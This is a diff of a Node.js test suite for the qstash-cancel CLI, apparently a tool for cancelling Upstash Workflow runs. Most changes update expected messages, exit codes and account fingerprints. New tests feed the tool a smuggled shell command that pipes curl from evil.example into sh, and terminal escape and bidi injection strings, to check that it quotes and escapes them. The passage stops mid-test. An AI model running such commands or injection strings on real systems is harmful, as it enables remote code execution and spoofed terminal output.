@@ -3,13 +3,15 @@
 // with a resume file, and the progress bar in a real pseudo-terminal (`script`).
 import test from 'node:test';
 import assert from 'node:assert/strict';
-import { spawn, execFileSync } from 'node:child_process';
-import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { spawn, execFile, execFileSync } from 'node:child_process';
+import { promisify } from 'node:util';
+import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
-import { startEmulator, seedRuns, cancelledIds, getLog, injectFaults, freshToken, setBulkSpeed } from './helpers.mjs';
+import { startEmulator, seedRuns, cancelledIds, getLog, injectFaults, freshToken, setBulkSpeed, seedActions } from './helpers.mjs';
 import { leakIn } from './scenarios.mjs';
+import { tokenFingerprint } from 'qstash-cancel';
 
 const app = fileURLToPath(new URL('.', import.meta.url));
 const bin = join(app, 'node_modules/.bin/qstash-cancel');
@@ -75,7 +77,7 @@ test('each target cancels exactly what it names', async () => {
     const token = await account();
     const { code, stdout } = await cli(args, { token });
     assert.equal(code, 0, args.join(' '));
-    assert.match(stdout, new RegExp(`^Cancelled ${want.length} run\\(s\\)`));
+    assert.match(stdout, new RegExp(`^Cancelled ${want.length} runs?`));
     assert.deepEqual(await cancelledIds(emulator.url, token), want, args.join(' '));
   }
 });
@@ -104,7 +106,7 @@ test('a filter cancel asks first: "n" (or no answer) sends nothing, "y" cancels'
   for (const stdin of ['n\n', '', 'yes please\n']) {
     const { code, stderr } = await cli(['--label', 'nightly'], { token, stdin });
     assert.equal(code, 3, JSON.stringify(stdin));
-    assert.match(stderr, /This cancels every run matching label nightly, repeating until a pass cancels nothing\.\nGo on\? \[y\/N\] \nNot confirmed/);
+    assert.match(stderr, /This cancels every run matching label nightly, repeating until a pass cancels nothing\.\nAccount: .*\nGo on\? \[y\/N\] \nNot confirmed/);
   }
   assert.equal((await getLog(emulator.url, token)).length, 0);
   assert.equal((await cli(['--label', 'nightly'], { token, stdin: 'y\n' })).code, 0);
@@ -126,22 +128,22 @@ test('--all needs the typed phrase: "yes" and --yes are not enough', async () =>
 test('refusals name the flag, send nothing, and exit 2; the token is never a flag', async () => {
   const token = await account();
   const cases = [
-    [['--from', '1700000000', '--yes'], /^INVALID_OPTIONS: --from: must be Unix milliseconds, and this looks like seconds/],
-    [['--from', 'yesterday', '--yes'], /^INVALID_OPTIONS: --from: is an invalid Date/],
-    [['--id', 'c1', '--id', ''], /^INVALID_OPTIONS: --id item 2: must not be empty/],
-    [['--id', 'c1', '--label', 'x'], /^INVALID_OPTIONS: --label: cannot be combined with workflowRunIds/],
-    [['--concurrency', 'lots', '--id', 'c1'], /^INVALID_OPTIONS: --concurrency: must be a whole number written in digits \(got "lots"\)/],
-    [['--concurrency', '99', '--id', 'c1'], /^INVALID_OPTIONS: --concurrency: must be an integer from 1 to 16/],
-    [['--lable', 'x'], /^INVALID_OPTIONS: --lable: is not a known flag; did you mean --label\? \(see --help\)/],
+    [['--from', '1700000000', '--yes'], /^Refused \(INVALID_OPTIONS\): --from: must be Unix milliseconds, and this looks like seconds/],
+    [['--from', 'yesterday', '--yes'], /^Refused \(INVALID_OPTIONS\): --from: is an invalid Date/],
+    [['--id', 'c1', '--id', ''], /^Refused \(INVALID_OPTIONS\): --id item 2: must not be empty/],
+    [['--id', 'c1', '--label', 'x'], /^Refused \(INVALID_OPTIONS\): --label: cannot be combined with --id\/--ids-from/],
+    [['--concurrency', 'lots', '--id', 'c1'], /^Refused \(INVALID_OPTIONS\): --concurrency: must be a whole number written in digits \(got "lots"\)/],
+    [['--concurrency', '99', '--id', 'c1'], /^Refused \(INVALID_OPTIONS\): --concurrency: must be an integer from 1 to 16/],
+    [['--lable', 'x'], /^Refused \(INVALID_OPTIONS\): --lable: is not a known flag; did you mean --label\? \(see --help\)/],
     [['--workflow-ulr', 'x'], /did you mean --workflow-url\?/],
     [['--zzzzzzzz'], /Unknown option '--zzzzzzzz'/],
-    [[], /^INVALID_OPTIONS: no target given: name runs with --id or --ids-from/],
-    [['--encoding', 'query'], /^INVALID_OPTIONS: no target given/],
-    [['--token', 'abc', '--all'], /^INVALID_OPTIONS: --token: is not accepted: a token on the command line lands in shell history/],
-    [['--token-file', 'missing.txt', '--all'], /^INVALID_OPTIONS: --token-file: cannot read missing.txt \(ENOENT\)/],
+    [['--exact'], /^Refused \(INVALID_OPTIONS\): no target given: name runs with --id or --ids-from/],
+    [['--encoding', 'query'], /^Refused \(INVALID_OPTIONS\): no target given/],
+    [['--token', 'abc', '--all'], /^Refused \(INVALID_OPTIONS\): --token: is not accepted: a token on the command line lands in shell history/],
+    [['--token-file', 'missing.txt', '--all'], /^Refused \(INVALID_OPTIONS\): --token-file: cannot read missing.txt \(ENOENT\)/],
     // Numbers are parsed strictly, like the library's: no empty string as 0, no hex.
-    [['--retries', '', '--id', 'c1'], /^INVALID_OPTIONS: --retries: must be a whole number written in digits \(got ""\)/],
-    [['--concurrency', '0x10', '--id', 'c1'], /^INVALID_OPTIONS: --concurrency: must be a whole number written in digits \(got "0x10"\)/],
+    [['--retries', '', '--id', 'c1'], /^Refused \(INVALID_OPTIONS\): --retries: must be a whole number written in digits \(got ""\)/],
+    [['--concurrency', '0x10', '--id', 'c1'], /^Refused \(INVALID_OPTIONS\): --concurrency: must be a whole number written in digits \(got "0x10"\)/],
   ];
   for (const [args, message] of cases) {
     const { code, stderr } = await cli(args, { token });
@@ -184,8 +186,9 @@ test('--json prints one result; service failures have their own exit codes', asy
   let token = await account();
   let result = await cli(['--id', 'c1', '--json'], { token });
   assert.deepEqual([result.code, JSON.parse(result.stdout)], [0, {
-    ok: true, code: 'DONE', message: 'Cancelled 1 run(s) (1 request(s), 1 pass(es), 0 retry(ies)).',
-    cancelled: 1, requests: 1, passes: 1, retries: 0, unconfirmed: 0, moreMayMatch: false,
+    ok: true, code: 'DONE', message: 'Cancelled 1 run (1 request, 1 pass, 0 retries).',
+    cancelled: 1, requests: 1, passes: 1, retries: 0, unconfirmed: 0, moreMayMatch: false, asked: 1,
+    account: { baseUrl: emulator.url, tokenFingerprint: await tokenFingerprint(token), tokenFrom: 'QSTASH_TOKEN' },
   }]);
   result = await cli(['--id', 'c1', '--json'], { token: 'not-an-account-token' });
   const failure = JSON.parse(result.stdout);
@@ -199,7 +202,7 @@ test('--json prints one result; service failures have their own exit codes', asy
   assert.equal(result.code, 6);
   result = await cli(['--id', 'c1', '--base-url', 'http://127.0.0.1:9', '--retries', '0'], { token });
   assert.equal(result.code, 7);
-  assert.match(result.stderr, /^NETWORK_ERROR: the request to http:\/\/127\.0\.0\.1:9 got no answer/);
+  assert.match(result.stderr, /^No answer from the service \(NETWORK_ERROR\): the request to http:\/\/127\.0\.0\.1:9 got no answer/);
 });
 
 test('Ctrl-C stops a long id list and tells confirmed, unconfirmed and not sent apart, true to the emulator; the printed command finishes the job', async () => {
@@ -213,7 +216,7 @@ test('Ctrl-C stops a long id list and tells confirmed, unconfirmed and not sent 
   const stopped = await cli(['--ids-from', 'long.txt', '--encoding', 'body', '--concurrency', '1', '--failed-ids-to', 'left.txt'], {
     token,
     onStderr: (text, child) => {
-      if (!interrupted && /1,000 run\(s\) cancelled/.test(text)) {
+      if (!interrupted && /1,000 runs cancelled/.test(text)) {
         interrupted = true;
         child.kill('SIGINT');
       }
@@ -221,11 +224,12 @@ test('Ctrl-C stops a long id list and tells confirmed, unconfirmed and not sent 
   });
   assert.equal(stopped.code, 130, stopped.stderr);
   assert.match(stopped.stderr, new RegExp([
-    'ABORTED: the call was aborted by its AbortSignal',
-    '1,000 run\\(s\\) confirmed cancelled before this\\.',
-    '1,000 id\\(s\\) not confirmed: sent, but no answer came \\(the service may have cancelled them\\)\\.',
-    '1,000 id\\(s\\) not cancelled: not sent, or refused by the service\\.',
-    'The 2,000 id\\(s\\) not confirmed cancelled are in .*left\\.txt \\(sending them again is safe: a cancelled run is not cancelled twice\\)\\. To finish the job:',
+    'Stopped by Ctrl-C \\(SIGINT\\) \\(ABORTED\\)\\.',
+    '1,000 runs confirmed cancelled before this\\.',
+    '1,000 ids not confirmed: sent without a confirming answer \\(the service may have cancelled them\\)\\.',
+    '1,000 ids not cancelled: not sent, or refused by the service\\.',
+    'The 2,000 ids not confirmed cancelled are in .*left\\.txt \\(sending them again is safe: a cancelled run is not cancelled twice\\)\\.',
+    'To finish the job:',
     ' {2}\\S+ --ids-from .*left\\.txt --encoding body --concurrency 1\n',
   ].join('\n')));
   // Every word is true of the emulator: the confirmed ids are cancelled, the not-sent ones are
@@ -240,7 +244,7 @@ test('Ctrl-C stops a long id list and tells confirmed, unconfirmed and not sent 
   const resume = rest.split(' ');
   const finished = await cli(resume, { token });
   assert.equal(finished.code, 0, finished.stderr);
-  assert.match(finished.stdout, new RegExp(`^Cancelled ${(3_000 - cancelled.size).toLocaleString('en-US')} run\\(s\\)`));
+  assert.match(finished.stdout, new RegExp(`^Cancelled ${(3_000 - cancelled.size).toLocaleString('en-US')} of 2,000 runs asked`));
   assert.equal((await cancelledIds(emulator.url, token)).length, 3_000);
 });
 
@@ -253,7 +257,7 @@ test('a filter cancel goes on until nothing matches: all 1,667 runs, though the 
   const token = await account(nightly(1_667));
   const { code, stdout } = await cli(['--label', 'nightly', '--yes'], { token });
   assert.equal(code, 0);
-  assert.equal(stdout, 'Cancelled 1,667 run(s) (18 request(s), 18 pass(es), 0 retry(ies)).\nThe last pass cancelled nothing: no matching run was left to cancel.\n');
+  assert.match(stdout, /^Cancelled 1,667 runs \(18 requests, 18 passes, 0 retries\)\.\nThe last pass cancelled nothing: no matching run was left to cancel\.\nAccount: token \S+ \(QSTASH_TOKEN\) at http:\/\/127\.0\.0\.1:\d+\n$/);
   assert.equal((await cancelledIds(emulator.url, token)).length, 1_667);
 });
 
@@ -261,12 +265,12 @@ test('--max-passes stops short with exit 8 and says the job is not finished; --o
   let token = await account(nightly(1_667));
   const stopped = await cli(['--label', 'nightly', '--yes', '--max-passes', '3'], { token });
   assert.equal(stopped.code, 8, stopped.stderr);
-  assert.match(stopped.stderr, /\nUNFINISHED: the cancel stopped at maxPasses \(3\).*\n300 run\(s\) confirmed cancelled before this\.\nThe job is not finished: more runs may match\. Run the same command again, or raise --max-passes\.\n$/);
+  assert.match(stopped.stderr, /\nNot finished \(UNFINISHED\): the cancel stopped at --max-passes \(3\).*\n300 runs confirmed cancelled before this\.\nThe job is not finished: more runs may match\. Run the same command again, or raise --max-passes\.\n$/);
   assert.equal((await cancelledIds(emulator.url, token)).length, 300);
   token = await account(nightly(1_667));
   const once = await cli(['--label', 'nightly', '--yes', '--once'], { token });
   assert.equal(once.code, 0);
-  assert.match(once.stdout, /^Cancelled 100 run\(s\) \(1 request\(s\), 1 pass\(es\), 0 retry\(ies\)\)\.\nMore runs may match/);
+  assert.match(once.stdout, /^Cancelled 100 runs \(1 request, 1 pass, 0 retries\)\.\nMore runs may match/);
   assert.equal((await getLog(emulator.url, token)).length, 1);
   assert.equal((await cli(['--label', 'nightly', '--yes', '--once', '--until-done'], { token })).code, 2);
 });
@@ -275,7 +279,7 @@ test('--max-requests stops at that many requests with exit 8; a list that cannot
   let token = await account(nightly(1_667));
   const stopped = await cli(['--label', 'nightly', '--yes', '--max-requests', '2'], { token });
   assert.equal(stopped.code, 8, stopped.stderr);
-  assert.match(stopped.stderr, /\nUNFINISHED: the call used all 2 requests maxRequests allows.*\n200 run\(s\) confirmed cancelled before this\.\nThe job is not finished: more runs may match\. Run the same command again, or raise --max-requests\.\n$/);
+  assert.match(stopped.stderr, /\nNot finished \(UNFINISHED\): the call used all 2 requests --max-requests allows.*\n200 runs confirmed cancelled before this\.\nThe job is not finished: more runs may match\. Run the same command again, or raise --max-requests\.\n$/);
   assert.equal((await getLog(emulator.url, token)).length, 2);
   token = await account(nightly(3));
   const ids = Array.from({ length: 3_000 }, (_, i) => ['--id', `wfr_${i}`]).flat();
@@ -289,15 +293,14 @@ test('--count caps the whole command; a request the service may have acted on is
   let token = await account(nightly(500));
   const capped = await cli(['--label', 'nightly', '--yes', '--count', '250', '--json'], { token });
   const { message, ...rest } = JSON.parse(capped.stdout);
-  assert.deepEqual(rest, { ok: true, code: 'DONE', cancelled: 250, requests: 1, passes: 1, retries: 0, unconfirmed: 0, moreMayMatch: true });
+  assert.deepEqual(rest, { ok: true, code: 'DONE', cancelled: 250, requests: 1, passes: 1, retries: 0, unconfirmed: 0, moreMayMatch: true, account: rest.account });
   assert.match(message, /Stopped at --count 250: more runs may match\./);
   assert.equal((await cancelledIds(emulator.url, token)).length, 250);
   token = await account(nightly(500));
   await injectFaults(emulator.url, token, [{ act: true, status: 502, body: 'Bad Gateway' }]);
   const lost = await cli(['--label', 'nightly', '--yes', '--count', '10'], { token });
   assert.equal(lost.code, 6, lost.stderr);
-  assert.match(lost.stderr, /may have cancelled up to 10 runs that no answer confirmed/);
-  assert.match(lost.stderr, /\n0 run\(s\) confirmed cancelled before this\.\n1 request\(s\) got no answer: the service may have cancelled up to 10 more run\(s\)\.\nRunning the same command again may cancel up to --count 10 more run\(s\)\.\n$/);
+  assert.match(lost.stderr, /\n0 runs confirmed cancelled before this\.\n1 request sent without a confirming answer: the service may have cancelled up to 10 more runs\.\nRunning the same command again may cancel up to --count 10 more runs\.\n$/);
   assert.equal((await getLog(emulator.url, token)).length, 1, 'sent once');
   assert.equal((await cancelledIds(emulator.url, token)).length, 10, 'never more than --count');
 });
@@ -387,13 +390,13 @@ test('SIGTERM and SIGHUP stop a cancel like Ctrl-C: the ids not confirmed are sa
     await injectFaults(emulator.url, token, [{ then: 'handle' }, { delayMs: 10_000 }]);
     let sent = false;
     const { code, stderr } = await spawnCli(['--ids-from', 'signal.txt', '--encoding', 'body', '--concurrency', '1', '--failed-ids-to', `${signal}.txt`], token, (child, text) => {
-      if (!sent && /1,000 run\(s\) cancelled/.test(text)) {
+      if (!sent && /1,000 runs cancelled/.test(text)) {
         sent = true;
         child.kill(signal);
       }
     });
     assert.equal(code, exit, stderr);
-    assert.match(stderr, /ABORTED: /);
+    assert.match(stderr, /Stopped by SIG\w+ .*\(ABORTED\)/);
     assert.deepEqual(readFileSync(join(work, `${signal}.txt`), 'utf8').trim().split('\n'), ids.slice(1_000));
   }
 });
@@ -415,7 +418,7 @@ test('under npx, a signal to npx alone does not reach the command; one to the pr
     const exited = new Promise((resolve) => npx.on('exit', (code, signal) => resolve({ code, signal })));
     await new Promise((resolve) => npx.stderr.on('data', (d) => {
       stderr += d;
-      if (/1,000 run\(s\) cancelled/.test(stderr)) resolve();
+      if (/1,000 runs cancelled/.test(stderr)) resolve();
     }));
     process.kill(target === 'npx' ? npx.pid : -npx.pid, 'SIGINT');
     return { token, left, exit: await exited, stderr };
@@ -426,7 +429,7 @@ test('under npx, a signal to npx alone does not reach the command; one to the pr
   assert.throws(() => readFileSync(left), /ENOENT/);
   // To the group: the command stops and saves the ids not confirmed.
   ({ token, left, stderr } = await run('group'));
-  assert.match(stderr, /ABORTED: /);
+  assert.match(stderr, /Stopped by Ctrl-C \(SIGINT\) \(ABORTED\)/);
   assert.deepEqual(readFileSync(left, 'utf8').trim().split('\n'), ids.slice(1_000));
 });
 
@@ -436,13 +439,13 @@ test('--async starts a filter cancel in the background; watch follows it to the 
   await setBulkSpeed(emulator.url, token, { perTick: 10, tickMs: 200 });
   const started = await cli(['--label', 'bg', '--async', '--yes'], { token });
   assert.equal(started.code, 0, started.stderr);
-  const [, actionId] = /^Started bulk action (\S+): the service cancels the matching runs in the background\.\nFollow it with: \S+ watch \1\n$/.exec(started.stdout) ?? [];
+  const [, actionId] = /^Started bulk action (\S+): the service cancels the matching runs in the background\.\nAccount: .*\nFollow it with: \S+ watch \1\n$/.exec(started.stdout) ?? [];
   assert.ok(actionId, started.stdout);
   assert.equal((await getLog(emulator.url, token))[0].query, '?label=bg&async=true');
   const watched = await cli(['watch', actionId, '--poll', '100'], { token });
   assert.equal(watched.code, 0, watched.stderr);
-  assert.match(watched.stdout, new RegExp(`^Bulk action ${actionId} finished: 200 of 200 run\\(s\\) processed \\(created \\S+, finished \\S+\\)\\.\\n$`));
-  assert.match(watched.stderr, /of 200 run\(s\) processed · IN_PROGRESS\n[\s\S]*200 of 200 run\(s\) processed · FINISHED\n/);
+  assert.match(watched.stdout, new RegExp(`^Bulk action ${actionId} finished: 200 of 200 runs? processed \\(created \\S+, finished \\S+\\)\\.\\n$`));
+  assert.match(watched.stderr, /of 200 runs processed · IN_PROGRESS\n[\s\S]*200 of 200 runs processed · FINISHED\n/);
   assert.equal((await cancelledIds(emulator.url, token)).length, 200);
   const json = JSON.parse((await cli(['watch', actionId, '--json'], { token })).stdout);
   assert.deepEqual([json.ok, json.actionId, json.state, json.processed], [true, actionId, 'FINISHED', 200]);
@@ -461,11 +464,11 @@ test('watch and actions refuse what does not apply to them, and a 404 has its ex
   const cases = [
     [['watch'], 2, /watch takes one action id/],
     [['watch', 'a', 'b'], 2, /watch takes one action id/],
-    [['watch', 'ba_x', '--label', 'x'], 2, /^INVALID_OPTIONS: --label: does not apply to watch/],
-    [['watch', '../runs'], 2, /^INVALID_OPTIONS: actionId: must be an action id as the service gave it/],
-    [['actions', '--state', 'done'], 2, /^INVALID_OPTIONS: --state: must be in-progress or finished/],
-    [['watch', 'ba_missing'], 6, /^HTTP_ERROR: the request failed \(HTTP 404\): Bulk action not found/],
-    [['--id', 'c1', '--async'], 2, /^INVALID_OPTIONS: --async: applies to filter and all cancels/],
+    [['watch', 'ba_x', '--label', 'x'], 2, /^Refused \(INVALID_OPTIONS\): --label: does not apply to watch/],
+    [['watch', '../runs'], 2, /^Refused \(INVALID_OPTIONS\): actionId: must be an action id as the service gave it/],
+    [['actions', '--state', 'done'], 2, /^Refused \(INVALID_OPTIONS\): --state: must be in-progress or finished/],
+    [['watch', 'ba_missing'], 6, /^The service failed \(HTTP_ERROR, HTTP 404\)\nThe service said: "Bulk action not found"/],
+    [['--id', 'c1', '--async'], 2, /^Refused \(INVALID_OPTIONS\): --async: applies to filter and all cancels/],
   ];
   for (const [args, exit, message] of cases) {
     const { code, stderr } = await cli(args, { token });
@@ -491,8 +494,294 @@ test('in a real terminal the progress bar is drawn in place and cleared at the e
   });
   assert.equal(code, 0);
   const screen = readFileSync(join(work, 'typescript'), 'utf8');
-  assert.match(screen, /\r\[#{8}\.{16}\] pass 1 · request 1\/3 · 1,000 run\(s\) cancelled\x1b\[K/);
-  assert.match(screen, /\r\[#{24}\] pass 1 · request 3\/3 · 2,500 run\(s\) cancelled\x1b\[K\r\x1b\[KCancelled 2,500 run\(s\)/);
+  assert.match(screen, /\r\[#{8}\.{16}\] pass 1 · request 1\/3 · 1,000 runs cancelled\x1b\[K/);
+  assert.match(screen, /\r\[#{24}\] pass 1 · request 3\/3 · 2,500 runs cancelled\x1b\[K\r\x1b\[KCancelled 2,500 runs/);
   assert.equal(leakIn(screen, token), undefined);
   assert.equal((await cancelledIds(emulator.url, token)).length, 2_500);
+});
+
+/** `text` as a regular expression that matches it literally. */
+const literal = (text) => text.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&');
+
+/** Characters a terminal acts on rather than shows: C0 (but the newline), DEL, C1, bidi controls. */
+const TERMINAL_CONTROLS = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
+
+test('service text is shown escaped: ESC, OSC, C1 and bidi controls in actions, watch and errors never reach the terminal raw', async () => {
+  const token = await account();
+  const hostile = '\x1b[2J\x1b]0;pwned\x07\u009b31m\u202eevil';
+  const fake = '\n0 run(s) matched, nothing cancelled';
+  const action = {
+    actionId: `ba_${hostile}`, kind: 'cancel', state: 'FINISHED', total: 1, processed: 1,
+    createdAt: Date.now(), completedAt: Date.now(), filter: { label: [`${hostile}${fake}`], [`x${hostile}`]: ['v'] },
+  };
+  await seedActions(emulator.url, token, [action]);
+  for (const args of [['actions'], ['actions', '--json']]) {
+    const { code, stdout, stderr } = await cli(args, { token });
+    assert.equal(code, 0, stderr);
+    assert.doesNotMatch(stdout + stderr, TERMINAL_CONTROLS, args.join(' '));
+    assert.ok(!(stdout + stderr).split('\n').includes('0 run(s) matched, nothing cancelled'), 'no fake line');
+    assert.deepEqual(JSON.parse(args.includes('--json') ? stdout : '{"bulkActions":[]}').bulkActions.map((a) => a.actionId),
+      args.includes('--json') ? [action.actionId] : [], 'JSON keeps the value, escaped only as JSON');
+  }
+  assert.match((await cli(['actions'], { token })).stdout, /ba_\\x1b\[2J\\x1b\]0;pwned\\x07\\u009b31m\\u202eevil/);
+  // watch: the answer's id and filter (a service may answer for another id than asked).
+  await injectFaults(emulator.url, token, [{ status: 200, body: action }]);
+  const watched = await cli(['watch', 'ba_1'], { token });
+  assert.equal(watched.code, 0, watched.stderr);
+  assert.doesNotMatch(watched.stdout + watched.stderr, TERMINAL_CONTROLS);
+  // An error's text from the service.
+  await injectFaults(emulator.url, token, [{ status: 404, body: { error: `gone${hostile}` } }]);
+  const missing = await cli(['watch', 'ba_1'], { token });
+  assert.equal(missing.code, 6, missing.stderr);
+  assert.doesNotMatch(missing.stdout + missing.stderr, TERMINAL_CONTROLS);
+  assert.match(missing.stderr, /gone.*\\u202eevil/);
+});
+
+test('the follow-up command of --async quotes the service-made action id for the shell', async () => {
+  const token = await account();
+  const id = 'x;curl${IFS}evil.example|sh;';
+  await injectFaults(emulator.url, token, [{ status: 200, body: { actionId: id } }]);
+  const started = await cli(['--label', 'nightly', '--async', '--yes'], { token });
+  assert.equal(started.code, 0, started.stderr);
+  const [, command] = /Follow it with: (.*)\n/.exec(started.stdout);
+  // What a shell makes of the printed line: the program, `watch` and the id as one word.
+  const words = execFileSync('sh', ['-c', `set -- ${command}; printf '%s\\n' "$@"`], { encoding: 'utf8' }).trimEnd().split('\n');
+  assert.deepEqual(words.slice(-2), ['watch', id]);
+});
+
+test('actions and watch show times beyond what a Date can hold (up to 2^53-1 ms, as the library accepts) instead of crashing', async () => {
+  const token = await account();
+  const far = Number.MAX_SAFE_INTEGER;
+  await seedActions(emulator.url, token, [{
+    actionId: 'ba_far', kind: 'cancel', state: 'FINISHED', total: 1, processed: 1, createdAt: far, completedAt: far, filter: { label: ['x'] },
+  }]);
+  const table = await cli(['actions'], { token });
+  assert.equal(table.code, 0, table.stderr);
+  assert.match(table.stdout, /ba_far +FINISHED +1\/1 +9007199254740991 ms after 1970 \(past the last date a clock can show\) +9007199254740991 ms after 1970 .* +label=x\n/);
+  const watched = await cli(['watch', 'ba_far'], { token });
+  assert.equal(watched.code, 0, watched.stderr);
+  assert.match(watched.stdout, /created 9007199254740991 ms after 1970 \(past the last date a clock can show\)/);
+});
+
+test('the question and the result name the account: the base URL (and region) and a fingerprint of the token, never its characters', async () => {
+  const token = await account();
+  const fingerprint = await tokenFingerprint(token);
+  assert.match(fingerprint, /^[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}$/);
+  const named = literal(`Account: token ${fingerprint} (QSTASH_TOKEN) at ${emulator.url}`);
+  const asked = await cli(['--label', 'nightly'], { token, stdin: 'n\n' });
+  assert.match(asked.stderr, new RegExp(`^This cancels every run matching label nightly, .*\\n${named}\\nGo on\\? \\[y/N\\] `));
+  const all = await cli(['--all'], { token, stdin: 'n\n' });
+  assert.match(all.stderr, new RegExp(`^This cancels EVERY workflow run of the account\\.\\n${named}\\nType "cancel every run"`));
+  const done = await cli(['--id', 'c1'], { token });
+  assert.match(done.stdout, new RegExp(`^Cancelled 1 run.*\\n${named}\\n`));
+  const json = JSON.parse((await cli(['--id', 'c2', '--json'], { token })).stdout);
+  assert.deepEqual(json.account, { baseUrl: emulator.url, tokenFingerprint: fingerprint, tokenFrom: 'QSTASH_TOKEN' });
+  // A region's token and URL: the region is named, and a dry run says where a real run would go.
+  const region = await cli(['--label', 'nightly', '--dry-run'], {
+    env: { QSTASH_TOKEN: '', QSTASH_URL: '', QSTASH_REGION: 'US_EAST_1', US_EAST_1_QSTASH_TOKEN: token },
+  });
+  assert.equal(region.code, 0, region.stderr);
+  assert.match(region.stdout, new RegExp(`\\nAccount: token ${fingerprint} \\(US_EAST_1_QSTASH_TOKEN\\) at https://qstash-us-east-1\\.upstash\\.io \\(region US_EAST_1\\)\\n`));
+  assert.ok(!(region.stdout + done.stdout + asked.stderr).includes(token.slice(-6)), 'no characters of the token');
+  assert.deepEqual(await cancelledIds(emulator.url, token), ['c1', 'c2']);
+});
+
+test('-h, -y, --version and -V work; run bare it shows the usage; a dry run needs no token', async () => {
+  const token = await account();
+  const help = await cli(['-h'], { token });
+  assert.deepEqual([help.code, help.stderr], [0, '']);
+  assert.match(help.stdout, /^qstash-cancel: cancel Upstash Workflow runs/);
+  assert.match(help.stdout, /-h, --help +show this help/);
+  const { version } = JSON.parse(readFileSync(join(app, 'node_modules/qstash-cancel/package.json'), 'utf8'));
+  for (const flag of ['--version', '-V']) assert.deepEqual(await cli([flag], { token }), { code: 0, stdout: `qstash-cancel ${version}\n`, stderr: '' });
+  const bare = await cli([], { env: { QSTASH_TOKEN: '' } });
+  assert.equal(bare.code, 0, bare.stderr);
+  assert.match(bare.stdout, /^qstash-cancel: cancel Upstash Workflow runs[\s\S]*Usage:/);
+  const yes = await cli(['--label', 'nightly', '-y'], { token });
+  assert.equal(yes.code, 0, yes.stderr);
+  assert.deepEqual(await cancelledIds(emulator.url, token), ['c1', 'c3']);
+  const sent = (await getLog(emulator.url, token)).length;
+  const dry = await cli(['--label', 'adhoc', '--dry-run'], { env: { QSTASH_TOKEN: '' } });
+  assert.equal(dry.code, 0, dry.stderr);
+  assert.match(dry.stdout, /^Dry run: nothing was sent\. The request:\n {2}DELETE http:\/\/127\.0\.0\.1:\d+\/v2\/workflows\/runs\?label=adhoc\n/);
+  assert.match(dry.stdout, /\nA real run would use:\nAccount: no token yet \(set QSTASH_TOKEN\) at http:\/\/127\.0\.0\.1:\d+\n$/);
+  assert.equal((await getLog(emulator.url, token)).length, sent, 'the dry run sent nothing');
+});
+
+test('a refused token (401, 403) is not a job to resume: no failed-ids file, no "run it again"; it says to fix the token and where it came from', async () => {
+  const wrong = 'not-an-account-token';
+  const fingerprint = await tokenFingerprint(wrong);
+  const files = () => readdirSync(work).filter((name) => name.startsWith('qstash-cancel-failed-')).length;
+  const before = files();
+  for (const args of [['--id', 'c1', '--id', 'c2'], ['--label', 'nightly', '--yes']]) {
+    const { code, stderr } = await cli(args, { token: wrong });
+    assert.equal(code, 4, stderr);
+    assert.doesNotMatch(stderr, /To finish the job|again continues|--ids-from/, args.join(' '));
+    assert.match(stderr, new RegExp(`Fix the token in QSTASH_TOKEN \\(token ${fingerprint}\\): the service at http://127\\.0\\.0\\.1:\\d+ did not accept it \\(HTTP 401\\)`), args.join(' '));
+  }
+  const token = await account();
+  await injectFaults(emulator.url, token, [{ status: 403, body: { error: 'forbidden' } }]);
+  const forbidden = await cli(['--id', 'c1'], { token });
+  assert.equal(forbidden.code, 4, forbidden.stderr);
+  assert.match(forbidden.stderr, /Fix the token in QSTASH_TOKEN \(token \S+\): the service at \S+ refused this request with it \(HTTP 403: the token lacks the rights\)/);
+  assert.doesNotMatch(forbidden.stderr, /To finish the job/);
+  assert.equal(files(), before, 'no file written');
+});
+
+test('headlines are plain words with the code after them, flags not option names, and counts in proper singular and plural', async () => {
+  const token = await account();
+  const cases = [
+    [['--from', '1700000000', '--yes'], 2, /^Refused \(INVALID_OPTIONS\): --from: must be Unix milliseconds/],
+    [['--id', 'c1', '--label', 'x'], 2, /^Refused \(INVALID_OPTIONS\): --label: cannot be combined with --id\/--ids-from/],
+    [['--label', 'nightly', '--yes', '--max-passes', '1'], 8, /^Not finished \(UNFINISHED\): the cancel stopped at --max-passes \(1\)/m],
+  ];
+  for (const [args, exit, headline] of cases) {
+    const { code, stdout, stderr } = await cli(args, { token });
+    assert.equal(code, exit, stderr);
+    assert.match(stderr, headline, args.join(' '));
+    assert.doesNotMatch(stdout + stderr, /workflowRunIds|maxPasses|\((s|es|ies)\)/, args.join(' '));
+  }
+  const wrong = await cli(['--id', 'c1'], { token: 'not-an-account-token' });
+  assert.match(wrong.stderr, /^Token refused \(UNAUTHORIZED, HTTP 401\)\nThe service said: "[^"\n]+"\n/);
+  assert.doesNotMatch(wrong.stderr, /the token was refused \(HTTP 401\)/);
+  const one = await cli(['--id', 'c2'], { token });
+  assert.match(one.stdout, /^Cancelled 1 run \(1 request, 1 pass, 0 retries\)\.\n/);
+  // A 500 is an answer: the ids it carried are "not confirmed", not "no answer came".
+  const fresh = await account();
+  await injectFaults(emulator.url, fresh, [{ act: true, status: 500, body: 'oops' }]);
+  const failed = await cli(['--id', 'c1', '--id', 'c2', '--retries', '0', '--failed-ids-to', 'five-hundred.txt'], { token: fresh });
+  assert.equal(failed.code, 6, failed.stderr);
+  assert.match(failed.stderr, /^The service failed \(HTTP_ERROR, HTTP 500\)/);
+  assert.match(failed.stderr, /\n0 runs confirmed cancelled before this\.\n2 ids not confirmed: sent without a confirming answer \(the service may have cancelled them\)\.\n/);
+  assert.doesNotMatch(failed.stderr, /no answer came|\((s|es|ies)\)/);
+});
+
+test('an id cancel that falls short says how many were asked, how many the service cancelled, and what the rest can be', async () => {
+  const token = await account();
+  const unknown = await cli(['--id', 'zz_1', '--id', 'zz_2'], { token });
+  assert.equal(unknown.code, 0, unknown.stderr);
+  assert.match(unknown.stdout, /^Cancelled 0 of 2 runs asked \(1 request, 1 pass, 0 retries\)\.\nThe other 2 were not active: already finished or cancelled, or unknown to this account \(the service does not say which\)\.\n/);
+  const some = await cli(['--id', 'c1', '--id', 'c2', '--id', 'c1', '--id', 'zz_3', '--json'], { token });
